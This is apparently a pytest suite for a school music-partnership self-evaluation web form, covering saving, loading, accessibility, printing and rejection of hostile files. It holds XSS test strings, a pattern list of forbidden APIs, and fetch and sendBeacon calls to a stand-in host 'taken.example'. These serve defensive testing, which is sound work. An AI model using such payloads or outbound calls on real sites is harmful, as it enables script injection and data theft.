"""The self-evaluation form in a browser: filled in, saved, loaded, printed, and given files that mean harm."""

import base64
import json
import re
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import pytest
from broken_answers import ACCEPTED, REFUSED, SCRIPT, THEMES, Table, empty, filled
from browsing import Tab, asked_for, requests_of, tab
from page_reading import Page, read

from survey_analysis import cli
from survey_analysis.errors import InputError
from survey_analysis.resources import DATA
from survey_analysis.self_evaluation import read_answers, read_statements
from survey_analysis.self_evaluation.form_pages import form_page, write_form

TEXT = form_page(read_statements())
SAID = "document.getElementById('said').textContent"
FORBIDDEN = re.compile(
    r"localStorage|sessionStorage|indexedDB|innerHTML|outerHTML|insertAdjacent|eval\(|fetch\(|XMLHttp"
)
WIDTHS = {"desktop": 1280, "phone": 360}


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_form(tmp_path_factory.mktemp("form") / "form.html")


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tab]:
    with tab(tmp_path_factory.mktemp("browser")) as opened:
        yield opened


@pytest.fixture
def form(shown: Tab, path: Path) -> Tab:
    """The form, opened anew, with nothing in it and nothing downloaded."""
    shown.accepts = True
    shown.open(path)
    shown.sized(1280)
    shown.dialogues.clear()
    for file in shown.downloads.iterdir():
        file.unlink()
    return shown


def given(folder: Path, content: bytes | Table, name: str = "answers.json") -> Path:
    file = folder / name
    file.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())
    return file


def load(form: Tab, file: Path) -> str:
    """What is said once a file was taken or refused."""
    form.run("document.getElementById('said').textContent = ''")
    form.give_file("#file", file)
    return str(form.until(SAID))


def save(form: Tab) -> Path:
    form.run("document.getElementById('save').click()")
    return form.saved()


def value(form: Tab, id: str) -> str:
    return str(form.run(f"document.getElementById({json.dumps(id)}).value"))


def put(form: Tab, id: str, text: str) -> None:
    """Write a text where there was another, as by hand."""
    form.run(f"document.getElementById({json.dumps(id)}).focus(); document.getElementById({json.dumps(id)}).value = ''")
    form.write(text)


# ----------------------------------------------------------------------------------------------------- as it is written


def test_the_command_writes_one_page_and_leaves_what_is_there_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "form.html"
    assert cli.main(["self-evaluation", str(page)]) == 0
    assert capsys.readouterr().out == f"The form is in {page}; open it in a browser: {page.as_uri()}\n"
    assert page.read_text(encoding="utf-8") == TEXT and list(tmp_path.iterdir()) == [page]
    page.write_text("mine", encoding="utf-8")
    assert cli.main(["self-evaluation", str(page)]) == 1
    assert capsys.readouterr().err == f"{str(page)!r} is there already and is left alone; name another file\n"
    assert page.read_text(encoding="utf-8") == "mine"


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (
            ["form.json"],
            "name the page to be written, such as --out profile.html; or, for a new form, one file alone that ends in",
        ),
        (["none/form.html"], "the folder 'none' is not there; make it first, or name another"),
        (["form.html", "--statements", "none.toml"], "'none.toml' cannot be read ("),
    ],
)
def test_what_cannot_be_written_is_one_sentence(
    tmp_path: Path,
    arguments: list[str],
    told: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    assert cli.main(["self-evaluation", *arguments]) == 1
    err = capsys.readouterr().err
    assert err.startswith(told) and err.count("\n") == 1 and list(tmp_path.iterdir()) == []


def test_a_path_is_asked_for() -> None:
    with pytest.raises(InputError, match=r"path must be that of a file ending in \.html, not 12"):
        write_form(12)  # type: ignore[arg-type]
    with pytest.raises(InputError, match=r"statements must come from read_statements\(\)"):
        form_page({})  # type: ignore[arg-type]


def test_a_hub_has_its_own_words_and_they_are_words(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hub = tmp_path / "hub.toml"
    text = (DATA / "self_evaluation.toml").read_text(encoding="utf-8").replace("version = 1", "version = 2")
    hub.write_text(
        text.replace('title = "Looking', 'title = "</script><script>alert(1)</script> Looking'), encoding="utf-8"
    )
    assert cli.main(["self-evaluation", str(tmp_path / "form.html"), "--statements", str(hub)]) == 0
    page = read(tmp_path / "form.html")
    assert len(page.all("script")) == 2
    assert page.all("h1")[0].text == "</script><script>alert(1)</script> Looking at our music partnership"


def test_the_page_is_whole_and_names_its_scripts_and_styles_by_their_sums(path: Path) -> None:
    page = read(path)
    [policy] = [it.attributes["content"] for it in page.all("meta") if it.attributes.get("http-equiv")]
    sums = [
        base64.b64encode(sha256(re.search(rf"<{tag}>(.*?)</{tag}>", TEXT, re.DOTALL)[1].encode()).digest()).decode()  # type: ignore[index]
        for tag in ("style", "script")
    ]
    assert policy == (
        "default-src 'none'; base-uri 'none'; form-action 'none'; "
        f"style-src 'sha256-{sums[0]}'; script-src 'sha256-{sums[1]}'"
    )
    assert page.all("link", "iframe", "object", "embed", "base", "img") == []
    for element in page.elements:
        assert not {"src", "action", "style", "srcset"} & set(element.attributes)
        assert not any(name.startswith("on") for name in element.attributes)
        assert element.attributes.get("href", "#").startswith("#")
    assert "http:" not in TEXT and "https:" not in TEXT and "url(" not in TEXT
    assert FORBIDDEN.search(TEXT) is None


def words_of(page: Page) -> str:
    return " ".join(" ".join(it.text for it in page.all("main", "footer")).split())


def test_it_says_what_it_is_and_what_it_is_not(path: Path) -> None:
    words = words_of(read(path))
    for said in (
        "This is not an inspection. There is no score, no grade and no ranking",
        "Nothing is sent anywhere",
        "Nothing is kept when you close it.",
        "Nothing is filled in for you.",
        "Signs and descriptors are working definitions.",
        "Contains public sector information licensed under the Open Government Licence v3.0.",
    ):
        assert said in words
    for word in ("total", "average", "per cent", "%", "outstanding", "inadequate"):
        assert word not in words.lower()


def test_everything_that_is_asked_is_on_the_page(path: Path) -> None:
    page = read(path)
    words, statements = words_of(page), read_statements()
    assert [it.text for it in page.all("h2") if it.text.startswith("Theme ")] == [
        f"Theme {n}. {theme.title}" for n, theme in enumerate(statements.themes, start=1)
    ]
    for theme in statements.themes:
        for text in (theme.pitfall, theme.action, *theme.signs, theme.evidence, theme.hub_question):
            assert text in words
        assert all(f"{statements.judgements[code]} {text}" in words for code, text in theme.descriptors.items())
    for choices in (statements.roles, statements.groups, statements.costs, statements.confidence):
        assert all(text in words for text in choices.values())


def test_every_place_has_one_name_and_every_field_a_label(path: Path) -> None:
    page = read(path)
    ids = [it.attributes["id"] for it in page.elements if "id" in it.attributes]
    assert len(ids) == len(set(ids))
    labelled = {it.attributes["for"] for it in page.all("label") if "for" in it.attributes}
    for field in page.all("input", "textarea"):
        inside = any(parent.tag == "label" for parent in field.parents)
        names = field.attributes.get("aria-labelledby", "").split()
        assert inside or names or field.attributes["id"] in labelled or "aria-label" in field.attributes
        for id in (*names, *field.attributes.get("aria-describedby", "").split()):
            assert id in ids
    for group in page.all("fieldset"):
        assert f"{group.attributes['id']}-fault" in group.attributes["aria-describedby"].split()


# ------------------------------------------------------------------------------------------------ filled in and saved


def test_the_form_is_filled_in_by_keys_alone_and_saved(form: Tab) -> None:
    form.run("document.body.focus()")
    form.key("Tab")
    assert form.run("document.activeElement.textContent") == "Skip to the questions"
    form.tab_to("[name=role]")
    form.key("ArrowDown")
    form.tab_to("#date")
    order = form.run("new Intl.DateTimeFormat().formatToParts(new Date()).map(it => it.type).join()")
    form.strike("".join({"day": "28", "month": "02", "year": "2026"}.get(part, "") for part in order.split(",")))
    form.tab_to("#school")
    form.write("S07")
    form.tab_to("#consent_to_hub")
    form.key(" ")
    form.tab_to("[name=answers-monitoring-judgement]")
    assert form.run("document.activeElement.value") == ""
    form.key("ArrowUp")  # from 'not judged yet' to the last of the four
    form.tab_to("#answers-monitoring-evidence")
    form.write("Two visits, in writing.")
    form.key("Enter")
    form.write("A second line.")
    form.tab_to("#answers-monitoring-priority")
    form.key(" ")
    form.tab_to("#participation-fsm-on_roll")
    form.write("1,120")
    form.tab_to("#participation-fsm-took_part")
    form.write("40")
    form.tab_to("#cost-school-pounds")
    form.write("£4,200")
    form.key("Enter")  # sends nothing
    form.tab_to("#save")
    form.key("Enter")
    answers = read_answers(form.saved())
    assert answers.file == "self-evaluation-S07-music_lead-2026-02-28.json"
    assert (answers.role, answers.date.isoformat(), answers.school) == ("music_lead", "2026-02-28", "S07")
    assert answers.consent_to_hub is True
    one = answers.answers["monitoring"]
    assert (one.judgement, one.priority) == ("action", True)
    assert one.evidence == "Two visits, in writing.\nA second line."
    [row], [cost] = answers.participation, answers.cost
    assert (row.group, row.on_roll, row.took_part, cost.pounds) == ("fsm", 1120, 40, 4200)
    assert form.run(SAID).startswith(f"Handed to your browser as {answers.file}")


@pytest.mark.parametrize("table", [filled(), empty()], ids=["filled", "empty"])
def test_what_is_saved_is_loaded_and_saved_again_the_same(form: Tab, path: Path, tmp_path: Path, table: Table) -> None:
    said = load(form, given(tmp_path, table))
    assert said == 'Loaded answers.json: answers of "Governor". Saving writes a new file.'
    saved = save(form)
    content = saved.read_bytes()
    assert json.loads(content) == table
    assert read_answers(saved).answers == read_answers(given(tmp_path, table)).answers
    saved.unlink()
    form.open(path)
    assert load(form, given(tmp_path, content)).startswith("Loaded")
    assert save(form).read_bytes() == content


def test_nothing_is_kept_by_the_page(form: Tab, path: Path, tmp_path: Path) -> None:
    load(form, given(tmp_path, filled()))
    form.open(path)
    assert value(form, "answers-inclusion-evidence") == value(form, "date") == value(form, "school") == ""
    assert form.run("document.querySelectorAll('[name=role]:checked').length") == 0
    assert form.run("document.cookie") == "" and form.run("window.name") == ""
    assert form.run("document.getElementById('progress').textContent") == "0 of 5 themes judged."


def test_who_leaves_with_changes_is_asked(form: Tab, path: Path, tmp_path: Path) -> None:
    form.open(path)
    assert form.dialogues == []
    load(form, given(tmp_path, filled()))
    put(form, "school", "S08")
    assert form.run(SAID) == "Changes are not saved."
    form.open(path)
    assert form.dialogues == ["beforeunload"]
    load(form, given(tmp_path, filled()))
    put(form, "school", "S08")
    assert read_answers(save(form)).school == "S08"
    form.open(path)
    assert form.dialogues == ["beforeunload"], "what is saved may be left"


@pytest.mark.parametrize("accepts", [True, False])
def test_loading_over_changes_is_asked_first(form: Tab, tmp_path: Path, accepts: bool) -> None:
    put(form, "school", "MINE")
    form.accepts = accepts
    form.give_file("#file", given(tmp_path, filled()))
    form.until("document.getElementById('file').value === ''")
    assert form.dialogues == ["confirm"]
    assert value(form, "school") == ("S07" if accepts else "MINE")
    form.accepts = True


def test_how_far_one_is_is_said_in_words(form: Tab, tmp_path: Path) -> None:
    load(form, given(tmp_path, filled()))
    assert form.run("document.getElementById('progress').textContent") == (
        "4 of 5 themes judged, 1 of them not applicable."
    )
    states = form.run("[...document.querySelectorAll('.state')].map(it => it.textContent)")
    assert states == ["(judged)"] * 3 + ["(not judged yet)", "(judged)"]
    form.run("document.querySelector('[name=answers-shared_practice-judgement]').click()")
    assert form.run("document.getElementById('progress').textContent").startswith("5 of 5 themes judged")


# ----------------------------------------------------------------------------------------------- what is to be mended

COUNT = "must be a whole number from 0 to 99,999"
BY_MEALS = "the pupils who took part by free school meals"
MISTAKES = {
    "school": ("St Mary", "must be a code of letters, digits, - and _, or empty, not 'St Mary'"),
    "year": ("2025", "must be a school year such as '2025-26', or empty, not '2025'"),
    "answers-inclusion-evidence": ("ring 020 7946 0123", "holds what looks like a telephone number; leave it out"),
    "answers-leadership-owner": ("x" * 81, "must have at most 80 characters, not 81; shorten it"),
    "participation-fsm-took_part": ("102", "must be at most the number on roll, 101, not 102; correct one of them"),
    "participation-girls-on_roll": ("many", f"{COUNT}, not 'many'"),
    "participation-boys-took_part": ("", f"{COUNT}, and is empty; give it, or empty the other number"),
    "cost-hub-pounds": ("-5", "must be a whole number from 0 to 999,999,999, not '-5'"),
    "participation-sen-on_roll": ("12,50", f"{COUNT}, not '12,50'"),
    "date": ("2099-12-31", "must not be after today; correct it"),
    "pupils_reached": ("12", f"must be at least 41, {BY_MEALS}, not 12; correct one of them"),
}


@pytest.mark.parametrize("id", MISTAKES)
def test_a_mistake_is_told_in_words_beside_its_field_and_in_a_list(form: Tab, tmp_path: Path, id: str) -> None:
    load(form, given(tmp_path, filled(pupils_reached=200)))
    text, told = MISTAKES[id]
    form.run(f"document.getElementById('{id}').value = {json.dumps(text if id == 'date' else '')}")
    if text and id != "date":
        put(form, id, text)
    form.run("document.getElementById('save').click()")
    assert form.run("document.activeElement.id") == "faults"
    assert 0 <= form.run("document.getElementById('faults').getBoundingClientRect().top") < 200
    assert form.run(SAID) == "Nothing was saved: one thing is to be mended first."
    [item] = form.run("[...document.querySelectorAll('#faults li')].map(it => it.textContent)")
    assert item.endswith(f": {told}") and len(item) > len(told) + 8
    field = f"document.getElementById('{id}')"
    assert form.run(f"{field}.getAttribute('aria-invalid')") == "true"
    assert f"{id}-fault" in form.run(f"{field}.getAttribute('aria-describedby')").split()
    assert form.run(f"document.getElementById('{id}-fault').innerText") == f"Mend this: {told}."
    form.run("document.querySelector('#faults a').click()")
    assert form.run("document.activeElement.id") == id
    assert list(form.downloads.iterdir()) == []


def test_who_and_when_are_needed_and_two_priorities_are_the_most(form: Tab) -> None:
    form.run(f"{json.dumps(THEMES[:3])}.forEach(it => document.getElementById(`answers-${{it}}-priority`).click())")
    form.run("document.getElementById('save').click()")
    assert form.run("[...document.querySelectorAll('#faults li')].map(it => it.textContent)") == [
        "Your role: choose one",
        "Date of these answers: give a day",
        "Theme 3. Fit with pupils' needs and the school's music: One of our two priorities: must be one of two at "
        "most, and 3 themes have it; choose two",
    ]
    form.run("document.querySelector('#faults a').click()")
    assert form.run("document.activeElement.name") == "role"
    assert form.violations() == []
    form.run("document.getElementById('answers-alignment-priority').click()")
    form.run("document.querySelector('[value=head]').click(); document.getElementById('date').value = '2026-02-28'")
    assert read_answers(save(form)).role == "head"
    assert form.run("document.querySelectorAll('[aria-invalid], #form .fault:not([hidden])').length") == 0
    assert form.run("document.getElementById('faults').hidden") is True


def test_signs_that_nobody_sees_do_not_come_along_with_what_is_pasted(form: Tab, tmp_path: Path) -> None:
    load(form, given(tmp_path, filled()))
    put(form, "answers-inclusion-next_step", "Count\u202e who\u200f stopped.\ufeff")
    assert read_answers(save(form)).answers["inclusion"].next_step == "Count who stopped."


# ----------------------------------------------------------------------------------------------------- hostile files


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_means_harm_gets_the_sentence_of_the_package(form: Tab, tmp_path: Path, name: str) -> None:
    content, told = REFUSED[name]
    put(form, "school", "MINE")
    before = form.run("document.body.querySelectorAll('*').length"), form.run("document.title")
    said = load(form, given(tmp_path, content))
    assert said.startswith(f"answers.json{told}") and said.endswith(".") and len(said) < 500
    assert form.run("document.getElementById('said').classList.contains('fault')") is True
    assert value(form, "school") == "MINE" and form.dialogues == []
    assert (form.run("document.body.querySelectorAll('*').length"), form.run("document.title")) == before


@pytest.mark.parametrize("name", ACCEPTED)
def test_a_file_that_the_package_takes_is_taken(form: Tab, tmp_path: Path, name: str) -> None:
    assert load(form, given(tmp_path, ACCEPTED[name])).startswith("Loaded answers.json")


def test_what_leads_to_a_person_is_not_repeated(form: Tab, tmp_path: Path) -> None:
    for table in (filled(role="ada@example.org"), filled(date="ring 020 7946 0123"), filled() | {"ada@example.org": 1}):
        said = load(form, given(tmp_path, table))
        assert "a text that looks like a" in said and "ada@" not in said and "7946" not in said


def test_scripts_in_texts_are_shown_as_texts(form: Tab, tmp_path: Path) -> None:
    table = filled()
    for answer in table["answers"].values():
        answer |= {"evidence": SCRIPT, "next_step": SCRIPT, "owner": "<script>alert(1)</script>"}
    before = form.run("document.body.querySelectorAll('*').length")
    assert load(form, given(tmp_path, table, "<img src=x onerror=alert(1)>.json")).startswith(
        "Loaded <img src=x onerror"
    )
    assert value(form, "answers-leadership-evidence") == SCRIPT
    assert form.run("document.body.querySelectorAll('*').length") == before
    assert form.run("document.title").endswith("not an inspection") and form.dialogues == []
    assert form.run("document.querySelector('[data-of=answers-leadership-evidence]').textContent") == SCRIPT


def test_what_was_put_into_the_page_could_not_act(form: Tab) -> None:
    form.run(f"document.body.insertAdjacentHTML('beforeend', {json.dumps(SCRIPT)})")
    form.run(
        "const it = document.createElement('script'); it.textContent = 'document.title = `taken`'; "
        "document.body.append(it)"
    )
    assert form.run("new Promise(done => setTimeout(() => done(document.title), 200))") != "taken"


def test_nothing_is_asked_of_a_network(path: Path, tmp_path: Path) -> None:
    assert requests_of(path, tmp_path / "profile") == []
    with asked_for() as (proxy, asked), tab(tmp_path, proxy, "--proxy-bypass-list=<-loopback>") as opened:
        opened.open(path)
        tried = "fetch('http://taken.example/').then(() => 'sent', () => 'refused')"
        assert opened.run(tried) == "refused"
        opened.run("document.body.append(Object.assign(new Image(), {src: 'http://taken.example/a.png'}))")
        opened.run("navigator.sendBeacon('http://taken.example/', 'a')")
        assert opened.run("new Promise(done => setTimeout(() => done('waited'), 500))") == "waited"
        assert [it for it in asked if "taken.example" in it] == []


# ------------------------------------------------------------------------------------------- seen, heard and printed


@pytest.mark.parametrize("width", WIDTHS.values(), ids=WIDTHS)
@pytest.mark.parametrize("state", ["empty", "filled", "refused"])
def test_axe_finds_nothing_wrong(form: Tab, tmp_path: Path, width: int, state: str) -> None:
    form.sized(width)
    if state != "empty":
        load(form, given(tmp_path, filled() if state == "filled" else b"{"))
    if state == "refused":
        form.run("document.getElementById('save').click()")
        assert form.run("document.getElementById('faults').hidden") is False
    assert form.violations() == []


@pytest.mark.parametrize("width", [1280, 360, 320])
def test_nothing_reaches_beyond_the_screen(form: Tab, tmp_path: Path, width: int) -> None:
    form.sized(width)
    table = filled()
    table["answers"]["inclusion"] |= {"evidence": "x" * 1500, "owner": "y" * 80}
    load(form, given(tmp_path, table, f"{'n' * 120}.json"))
    assert form.run("document.documentElement.scrollWidth") <= width


def test_what_has_the_focus_is_not_behind_the_bar(form: Tab) -> None:
    bar = "document.querySelector('.bar').getBoundingClientRect().top"
    for width in (1280, 360):
        form.sized(width, 700)
        hidden = form.run(
            "[...document.querySelectorAll('#form input, #form textarea')].filter(it => { it.focus(); "
            f"return it.getBoundingClientRect().bottom > {bar} + 1; }})"
            ".map(it => it.id || it.name)"
        )
        assert hidden == []


def test_every_text_is_printed_whole(form: Tab, tmp_path: Path) -> None:
    table = filled()
    long = "A line of evidence.\n" * 70
    table["answers"]["inclusion"] |= {"evidence": long.strip(), "owner": "Music lead " * 7}
    load(form, given(tmp_path, table))
    form.send("Emulation.setEmulatedMedia", media="print")
    try:
        paper = "document.querySelector('[data-of=answers-inclusion-{}]')"
        assert form.run(f"{paper.format('evidence')}.innerText").count("A line of evidence.") == 70
        assert form.run(f"{paper.format('evidence')}.clientHeight") > 70 * 12
        assert form.run(f"{paper.format('owner')}.innerText.trim()") == ("Music lead " * 7).strip()
        for gone in (".bar", "textarea", "#answers-inclusion-owner", "nav"):
            assert form.run(f"getComputedStyle(document.querySelector('{gone}')).display") == "none"
        assert form.run("getComputedStyle(document.querySelector('[name=role]')).display") != "none"
    finally:
        form.send("Emulation.setEmulatedMedia", media="")
    pdf = base64.b64decode(form.send("Page.printToPDF", preferCSSPageSize=True)["data"])
    assert pdf.startswith(b"%PDF") and 7 <= len(re.findall(rb"/Type\s*/Page\b", pdf)) <= 16
